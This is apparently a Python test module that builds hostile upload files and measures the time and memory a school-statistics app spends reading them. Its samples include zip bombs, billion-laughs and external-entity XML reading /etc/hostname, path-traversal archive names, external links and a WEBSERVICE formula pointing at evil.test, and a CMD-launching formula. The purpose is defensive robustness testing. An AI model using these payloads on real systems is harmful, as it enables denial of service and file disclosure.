"""Files that try to hang, crash or fill whoever reads them, made by code; and the way an upload takes through the door.

``python -m tests.intake.evil [WORD ...]`` reads them, one after the other in one process, and says what each cost.
"""

from __future__ import annotations

import io
import json
import re
import resource
import struct
import sys
import time
import zipfile
from pathlib import Path

from socio import scenario
from socio.errors import SocioError
from socio.intake import amounts, archives, outline, recognise, results, skolverket, tables

MOST = archives.MOST_BYTES
"""The largest upload there is."""

HEAD = "skolenhetskod;skola;elever;A: x\n"
TABLE = f"{HEAD}012;Åsa;15;0,5\n34;B;20;0,25\n".encode()


def filled(part, size=MOST):
    """The same over and over, to the size of the largest upload."""
    return (part * (size // len(part) + 1))[:size]


def utf8(written):
    return written.encode()


def zalgo(count):
    """Letters under which accents are piled, in an order that has to be sorted."""
    return "a" + "\u0301\u0316" * count


TEXTS = {
    "one line": lambda: filled(b"a"),
    "words of one line": lambda: filled(b"skola "),
    "newlines": lambda: filled(b"\n", MOST - 1) + b"x",
    "newlines around": lambda: b"x" + filled(b"\r\n", MOST - 2) + b"x",
    "carriage returns": lambda: filled(b"\r", MOST - 1) + b"x",
    "blanks": lambda: filled(b" ", MOST - 1) + b"x",
    "lines of blanks": lambda: filled(b" " * 2_999 + b"\n", MOST - 1) + b"x",
    "no-break spaces": lambda: filled("\u00a0".encode(), MOST - 2) + b"x",
    "semicolons": lambda: filled(b";"),
    "commas": lambda: filled(b","),
    "tabs": lambda: filled(b"\t", MOST - 1) + b"x",
    "quotes": lambda: filled(b'"'),
    "an open quote": lambda: b'"' + filled(b"a;b\n", MOST - 1),
    "quotes in quotes": lambda: filled(b'"a""b""";', MOST),
    "a quote on each line": lambda: filled(b'"a\n'),
    "a cell of blanks": lambda: b"skola;kr\n" + (b"A-skolan;5" + b" " * 130_000 + b"x\n") * 400,
    "a pasted line of blanks": lambda: (b"A-skolan" + b" " * 400 + b"\n") * 4_800,
    "a pasted page of numbers": lambda: filled(b"A" + b" 123" * 120 + b"\n", 2_000_000),
    "hyphens at the end of lines": lambda: b'"' + b"-\n" * 65_000 + b'";b\n"x";"y"\n1;2\n',
    "the settings' words": lambda: filled(b"schema \n", MOST),
    "a setting of one value": lambda: b"schema = 1\n[need]\nx = " + filled(b"[", 1_000_000),
    "a setting of many tables": lambda: b"schema = 1\n[need]\n" + b"".join(b"[a%d]\n" % n for n in range(200_000)),
    "brackets of a setting": lambda: filled(b"[[[[", MOST),
    "NUL in the middle": lambda: TABLE + b"\0" + filled(b"1;a;10;0,5\n", 1_000_000),
    "NUL only": lambda: bytes(MOST),
    "half UTF-16": lambda: b"\xff\xfe" + filled("å;".encode("utf-16-le"), MOST - 3) + b"x",
    "UTF-16 without a mark": lambda: filled("a;".encode("utf-16-le"), MOST),
    "lone surrogates": lambda: b"\xff\xfe" + filled(b"\x00\xd8a\x00", MOST - 2),
    "surrogates in UTF-8": lambda: TABLE + b"\xed\xa0\x80;x;10;0,5\n",
    "two encodings": lambda: TABLE + filled("1;ö;10;0,5\n".encode("cp1252"), 30_000_000),
    "emoji": lambda: filled("\N{GRINNING FACE}".encode()),
    "wide characters": lambda: "\N{GRINNING FACE}".encode() + filled(b"a;", MOST - 4),
    "noise": lambda: filled(bytes((n * n * 7 + n // 3) % 251 + 1 for n in range(99_991))),
    "carriage returns only": lambda: TABLE.replace(b"\n", b"\r"),
    "16 384 columns": lambda: ";".join(f"k{n}" for n in range(16_384)).encode() + b"\n" + b"1;" * 16_383 + b"1\n",
    "16 384 factors": lambda: (
        (HEAD.strip() + "".join(f";F{n}: x" for n in range(16_384))).encode()
        + b"\n"
        + b"".join(b"%d;a;100" % n + b";0,5" * 16_385 + b"\n" for n in range(50))
    ),
    "16 384 categories": lambda: (
        ("skolenhetskod;skola;elever" + "".join(f";F: {n}" for n in range(16_384))).encode()
        + b"\n"
        + b"".join(b"%d;a;100" % n + b";.." * 16_384 + b"\n" for n in range(50))
    ),
    "the same heading": lambda: b"skola;" * 16_384 + b"skola\n" + b"1;" * 16_384 + b"1\n",
    "the same school": lambda: HEAD.encode() + b"1;a;10;0,5\n" * 19_990,
    "a million blank rows": lambda: b"\n" * 1_000_000 + TABLE,
    "blank rows, then a table": lambda: b";;;\n" * 19_990 + TABLE,
    "a fault in every cell": lambda: (
        (HEAD.strip() + "".join(f";B: {n}" for n in range(46))).encode() + b"\n" + (b"x;" * 49 + b"x\n") * 19_000
    ),
    "amounts that are none": lambda: b"skola;kr\n" + b"A-skolan;1\nB-skolan;2\n" * 4_000 + b"C-skolan;x\n" * 7_000,
    "near names": lambda: b"skola;kr\n" + b"".join(b"Skolan %d;%d\n" % (n, n) for n in range(19_000)),
    "headings that are words of the program": lambda: b"Index;sum;None;count\n1;2;3;4\n",
    "a layout with the program's words": lambda: utf8(
        "skolenhetskod;skola;elever;Index: sum;Index: None;count: nan;None: Index;index;kommunen\n"
        "1;None;10;0,5;0,5;0,5;1;1,0;x\n2;nan;20;0,5;0,5;0,5;1;0,9;x\n"
    ),
    "numbers without end": lambda: HEAD.encode() + b"1;a;" + b"9" * 100_000 + b";0,5\n",
    "infinite": lambda: HEAD.encode() + b"1;a;1e400;inf\n2;b;nan;1e-400\n3;c;0x10;1_000\n",
    "digits of other scripts": lambda: utf8(f"{HEAD}1;a;١٢;0,5\n2;b;५;²\n"),
    "piled accents": lambda: utf8(f"{HEAD}1;{zalgo(60_000)};10;0,5\n"),
    "piled accents all over": lambda: utf8(HEAD + f"1;{zalgo(16_000)};10;0,5\n" * 900),
    "an export of one word": lambda: (
        "Statistik från Skolverket\n\nGrundskolan - Antal elever per årskurs\n".encode() + filled(b"x;", 30_000_000)
    ),
    "an export without end": lambda: (
        "Statistik från Skolverket\n\nGrundskolan - Antal elever per årskurs\n".encode() + b";\n" * 19_000
    ),
    "a page in Chinese": lambda: filled(("漢字" * 450 + ";").encode() * 4 + b"\n", MOST // 2),
    "a large table in Chinese": lambda: filled(("漢字" * 450 + ";1;2\n").encode(), 19_000_000),
    "a thousand factors": lambda: (
        (HEAD.strip() + "".join(f";F{n}: x" for n in range(990))).encode()
        + b"\n"
        + b"".join(b"%d;a;100" % n + b";0,5" * 991 + b"\n" for n in range(1_000))
    ),
    "a thousand categories": lambda: (
        ("skolenhetskod;skola;elever" + "".join(f";F: {n}" for n in range(990))).encode()
        + b"\n"
        + b"".join(b"%d;a;100" % n + b";.." * 990 + b"\n" for n in range(1_000))
    ),
    "20 000 schools": lambda: (
        HEAD.strip().encode()
        + b"".join(b";F%d: x" % n for n in range(45))
        + b"\n"
        + b"".join(b"%d;a;100" % n + b";0,5" * 46 + b"\n" for n in range(19_990))
    ),
    "a table of factors": lambda: utf8(
        ";".join(["", *(f"F{n // 2}" if n % 2 == 0 else "" for n in range(900))])
        + "\n"
        + ";".join(["Skola", *(f"k{n}" for n in range(900))])
        + "\n"
        + "".join("S" + str(n) + ";1" * 900 + "\n" for n in range(1_000))
    ),
}
"""Text that is too much of something."""

TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
)
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def relations(one):
    return f'<Relationships xmlns="{PACKAGE}"><Relationship Id="r" {one}/></Relationships>'


def book(sheet, *, strings="", extra=(), method=zipfile.ZIP_DEFLATED):
    """An .xlsx whose first sheet and shared strings are these bytes or texts, with other parts beside them."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", method, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr(
            "_rels/.rels",
            f'<Relationships xmlns="{PACKAGE}"><Relationship Id="r" Type="{RELATION}/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>',
        )
        archive.writestr(
            "xl/workbook.xml",
            f'<workbook xmlns="{MAIN}" xmlns:r="{RELATION}"><sheets>'
            '<sheet name="Blad1" sheetId="1" r:id="r1"/></sheets></workbook>',
        )
        archive.writestr(
            "xl/_rels/workbook.xml.rels",
            f'<Relationships xmlns="{PACKAGE}"><Relationship Id="r1" Type="{RELATION}/worksheet" '
            f'Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="{RELATION}/sharedStrings" '
            'Target="sharedStrings.xml"/></Relationships>',
        )
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
        if strings:
            archive.writestr("xl/sharedStrings.xml", strings)
        for name, data in extra:
            archive.writestr(name, data)
    return content.getvalue()


def sheet_of(inside, before=""):
    return f'<?xml version="1.0"?>{before}<worksheet xmlns="{MAIN}"><sheetData>{inside}</sheetData></worksheet>'


def cell(address, value, kind="n"):
    if kind == "inlineStr":
        return f'<c r="{address}" t="{kind}"><is><t>{value}</t></is></c>'
    return f'<c r="{address}" t="{kind}"><v>{value}</v></c>'


def row_of(number, *values):
    cells = (
        cell(f"{chr(65 + at)}{number}", value, "n" if isinstance(value, (int, float)) else "inlineStr")
        for at, value in enumerate(values)
    )
    return f'<row r="{number}">{"".join(cells)}</row>'


GOOD = row_of(1, "skolenhetskod", "skola", "elever", "A: x") + row_of(2, "1", "a", 10, 0.5) + row_of(3, "2", "b", 9, 1)


def lying(content):
    """The sizes in the archive's list say two thousand bytes."""
    changed = bytearray(content)
    at = changed.find(b"xl/worksheets/sheet1.xml", changed.find(b"PK\x01\x02"))
    struct.pack_into("<I", changed, at - 22, 2_000)
    at = changed.find(b"xl/worksheets/sheet1.xml")
    struct.pack_into("<I", changed, at - 8, 2_000)
    return bytes(changed)


def declaring(content, size):
    """The sizes in the archive's list say far more than there is."""
    changed = bytearray(content)
    for signature, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        for found in re.finditer(signature, bytes(changed)):
            struct.pack_into("<I", changed, found.start() + offset, size)
    return bytes(changed)


def shared(text):
    return f'<sst xmlns="{MAIN}" count="1" uniqueCount="1"><si><t>{text}</t></si></sst>'


def column_of(count, cell_at):
    return "".join(f'<row r="{row}">{cell_at(row)}</row>' for row in range(1, count + 1))


LAUGHS = "".join(
    ['<!DOCTYPE l [<!ENTITY a0 "ha">', *(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)), "]>"]
)
FOREIGN = '<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/hostname">]>'

BOOKS = {
    "A a gigabyte of blanks": lambda: book(b" " * (99 << 20) + b"<worksheet/>"),
    "B forty million cells": lambda: book(sheet_of("<row>" + "<c><v>1</v></c>" * 5_000_000 + "</row>")),
    "B a million cells": lambda: book(sheet_of(column_of(20_000, lambda _: "<c><v>1</v></c>" * 50))),
    "C two corners": lambda: book(
        sheet_of(f'<row r="1">{cell("A1", 1)}</row><row r="1048576">{cell("XFD1048576", 1)}</row>')
    ),
    "C one corner": lambda: book(sheet_of(f'<row r="1048576">{cell("XFD1048576", 1)}</row>')),
    "C beyond the corner": lambda: book(sheet_of(f'<row r="99999999999">{cell("ZZZZZ99999999999", 1)}</row>')),
    "C a dimension that lies": lambda: book(
        sheet_of(GOOD).replace("<sheetData>", '<dimension ref="A1:XFD1048576"/><sheetData>')
    ),
    "D billion laughs": lambda: book(sheet_of(row_of(1, "&a9;"), LAUGHS)),
    "D2 another file": lambda: book(sheet_of(row_of(1, "&x;"), FOREIGN)),
    "D3 laughs in the strings": lambda: book(sheet_of(GOOD), strings=LAUGHS + shared("&a9;")),
    "E a size that lies": lambda: lying(book(sheet_of(GOOD + column_of(99_000, lambda row: cell(f"A{row}", 1))))),
    "E two gigabytes declared": lambda: declaring(book(sheet_of(GOOD)), 0x7FFFFFFF),
    "E four gigabytes declared": lambda: declaring(book(sheet_of(GOOD)), 0xFFFFFFFE),
    "F a long string again and again": lambda: book(
        sheet_of(column_of(19_000, lambda row: cell(f"A{row}", 0, "s") + cell(f"B{row}", 0, "s"))),
        strings=shared("å" * 32_000),
    ),
    "F accents again and again": lambda: book(
        sheet_of(row_of(1, "skola", "kr") + column_of(900, lambda row: cell(f"A{row}", 0, "s") + cell(f"B{row}", 1))),
        strings=shared(zalgo(16_000)),
    ),
    "G 16 384 columns": lambda: book(sheet_of('<row r="1">' + "<c><v>1</v></c>" * 16_384 + "</row>")),
    "G a million blank rows": lambda: book(
        sheet_of("".join(f'<row r="{row}"/>' for row in range(1, 1_000_001)) + row_of(1_000_001, "skola"))
    ),
    "G a table after a million rows": lambda: book(sheet_of(row_of(1_000_001, "skola", "kr") + row_of(1_000_002, 1))),
    "G nested elements": lambda: book(sheet_of("<row><c>" + "<v>" * 500_000 + "</v>" * 500_000 + "</c></row>")),
    "G one endless attribute": lambda: book(sheet_of(f'<row r="{"1" * 9_000_000}"/>')),
    "G two thousand parts": lambda: book(sheet_of(GOOD), extra=[(f"xl/{n}.xml", "<a/>") for n in range(2_500)]),
    "G a part named as a path": lambda: book(sheet_of(GOOD), extra=[("../../../../etc/passwd", "x")]),
    "G external links": lambda: book(
        sheet_of(GOOD),
        extra=[
            ("xl/externalLinks/externalLink1.xml", f'<externalLink xmlns="{MAIN}"/>'),
            (
                "xl/externalLinks/_rels/externalLink1.xml.rels",
                relations(f'Type="{RELATION}/externalLinkPath" Target="http://evil.test/b.xlsx" TargetMode="External"'),
            ),
        ],
    ),
    "G macros": lambda: book(sheet_of(GOOD), extra=[("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(2_000))]),
    "G formulas": lambda: book(sheet_of(GOOD.replace("<v>10</v>", '<f>WEBSERVICE("http://evil.test")</f><v>10</v>'))),
    "G formulas without values": lambda: book(sheet_of(GOOD.replace("<v>10</v>", '<f>CMD|"/c calc"!A0</f>'))),
    "H html as xls": lambda: b"<html><table><tr><td>skola</td></tr></table></html>",
    "H cut off": lambda: book(sheet_of(GOOD))[:700],
    "H only a signature": lambda: b"PK\x03\x04",
    "H an old signature": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + filled(b"\xfe\xff\xff\xff", MOST - 8),
    "H an old file of zeros": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(MOST - 8),
    "H sixty megabytes of parts": lambda: filled(b"PK\x03\x04PK\x01\x02"),
    "H a good one": lambda: book(sheet_of(GOOD)),
}
"""Workbooks (libraries.md 1.2, A-H), and what pretends to be one."""


def packed(name, data):
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)
    return content.getvalue()


ARCHIVES = {
    "a bomb": lambda: packed("a.csv", filled(b"0;")),
    "within its ratio": lambda: packed("a.csv", filled(bytes((n * n // 7) % 96 + 32 for n in range(99_991)))),
    "a workbook's bomb": lambda: packed("a.xlsx", BOOKS["B forty million cells"]()),
    "a workbook in it": lambda: packed("a.xlsx", BOOKS["C two corners"]()),
    "a declared size": lambda: declaring(packed("a.csv", TABLE), 0x7FFFFFFF),
    "its own name": lambda: packed("../../../../" + "å" * 30_000 + ".csv", TABLE),
}

FILES = {
    **{f"text: {name}": make for name, make in TEXTS.items()},
    **{f"book: {name}": make for name, make in BOOKS.items()},
    **{f"zip: {name}": make for name, make in ARCHIVES.items()},
}


def through_the_door(content, name="fil"):
    """Take a file the way of an upload, as `socio.ui.uploads.take_in` does: what it is, and what came of it."""
    readers = {
        "pupils per year": skolverket.read,
        "results": results.read,
        "salsa": results.read,
        "tabell1": outline.read,
        "amounts": amounts.read,
        "scenario": lambda content, name: scenario.read(content.decode("utf-8-sig"), name),
    }
    try:
        kind = recognise.recognise(content, name).kind
        readers.get(kind, tables.read)(content, name)
    except SocioError as error:
        return [str(fault) for fault in error.faults]
    return [kind]


def _memory(which):
    """Bytes of memory in use (VmRSS), or at most since it was last asked to forget (VmHWM)."""
    status = Path("/proc/self/status").read_text(encoding="ascii")
    return int(re.search(rf"{which}:\s+(\d+)", status)[1]) * 1024


def cost(content, name="fil"):
    """Read one file the way of an upload; what was said, and the seconds and the memory that it took."""
    Path("/proc/self/clear_refs").write_text("5", encoding="ascii")
    memory, computed, started = _memory("VmRSS"), time.process_time(), time.monotonic()
    children = resource.getrusage(resource.RUSAGE_CHILDREN)
    said = through_the_door(content, name)
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    return {
        "size": len(content),
        "seconds": time.process_time() - computed,
        "in children": after.ru_utime + after.ru_stime - children.ru_utime - children.ru_stime,
        "waited": time.monotonic() - started,
        "memory": _memory("VmHWM") - memory,
        "faults": len(said),
        "said": [line.removeprefix("fil: ") for line in said[:3]],
    }


def main():
    """Read files in this process, one after the other, all of them or those whose names have a word in them."""
    through_the_door(TABLE)
    for name, make in FILES.items():
        if any(word in name for word in sys.argv[1:] or [""]):
            sys.stdout.write(json.dumps({"name": name} | cost(make())) + "\n")
            sys.stdout.flush()


if __name__ == "__main__":
    main()
